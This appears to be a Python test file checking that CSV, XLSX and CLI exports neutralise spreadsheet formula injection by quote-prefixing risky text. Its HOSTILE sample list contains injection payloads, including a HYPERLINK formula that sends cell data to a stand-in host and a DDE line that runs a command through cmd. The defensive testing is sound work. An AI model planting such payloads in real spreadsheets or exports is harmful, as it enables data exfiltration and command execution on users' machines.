"""Exports neutralise spreadsheet formulas (issue #13 item 8, decision 0038, OWASP CSV injection).

A variation named ``=HYPERLINK(...)`` must not become a live formula: CSV prefixes formula-leading text
with ``'``; XLSX writes every string as a string cell (no ``<f>`` element), formula-leading ones with the
quote-prefix style. Numbers, negative ones included, stay numbers; other text is unchanged.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pyarrow as pa
import pytest
from openpyxl import load_workbook

from dashboards.exports import encode
from xpcore.formula_cells import neutralize_formula
from xpstream.cli.output import OutputFormat, print_rows

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
PLAIN = ["Green", "a=b", "", "#N/A", "'already quoted"]
TABLE = pa.table(
    {
        "variation_name": HOSTILE + PLAIN,
        "estimate": [-0.25, -1e-9, 0.5, -3.0, 1.0, -2.0, 0.0, -7.5, 1.5, None, 2.0, -1.0],
    }
)


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_quote(text: str) -> None:
    assert neutralize_formula(text) == "'" + text


@pytest.mark.parametrize("value", [*PLAIN, -1.5, -3, None, True])
def test_everything_else_is_unchanged(value: object) -> None:
    assert neutralize_formula(value) == value


def test_csv_export_neutralises_text_and_keeps_negative_numbers() -> None:
    text = b"".join(encode([TABLE], "csv")).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [r[0] for r in rows] == ["'" + t for t in HOSTILE] + PLAIN
    assert [r[1] for r in rows] == [
        "-0.25",
        "-1e-09",
        "0.5",
        "-3.0",
        "1.0",
        "-2.0",
        "0.0",
        "-7.5",
        "1.5",
        "",
        "2.0",
        "-1.0",
    ]


def test_xlsx_export_writes_strings_never_formulas() -> None:
    data = b"".join(encode([TABLE], "xlsx"))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
    worksheet = load_workbook(io.BytesIO(data)).active
    rows = list(worksheet.iter_rows(min_row=2))
    # XML parsers read a carriage return in text back as a line feed
    assert [r[0].value for r in rows] == [t.replace("\r", "\n") for t in HOSTILE] + [p or None for p in PLAIN]
    assert all(r[0].data_type == "s" for r in rows if r[0].value is not None)
    assert [r[0].quotePrefix for r in rows] == [True] * len(HOSTILE) + [False] * len(PLAIN)
    assert [r[1].value for r in rows][:4] == [-0.25, -1e-9, 0.5, -3.0]
    assert all(r[1].data_type == "n" for r in rows)


def test_cli_csv_output_neutralises_text(capsys: pytest.CaptureFixture[str]) -> None:
    rows = [{"name": t, "value": -1.5, "raw": t.encode()} for t in HOSTILE] + [
        {"name": "ok", "value": -2, "raw": b"ok"}
    ]
    print_rows(rows, ["name", "value", "raw"], OutputFormat.csv)
    parsed = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))[1:]
    assert [r[0] for r in parsed] == ["'" + t for t in HOSTILE] + ["ok"]
    assert [r[2] for r in parsed] == ["'" + t for t in HOSTILE] + ["ok"]
    assert {r[1] for r in parsed} == {"-1.5", "-2"}


def test_a_carriage_return_cannot_start_a_new_row_past_the_quote() -> None:
    table = pa.table({"name": ["'\r=1+1", "x\r=2+2"], "n": [1, 2]})
    text = b"".join(encode([table], "csv")).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["name", "n"], ["'\r=1+1", "1"], ["x\r=2+2", "2"]]
    assert text.count("\n") == 3  # three lines: header and two rows
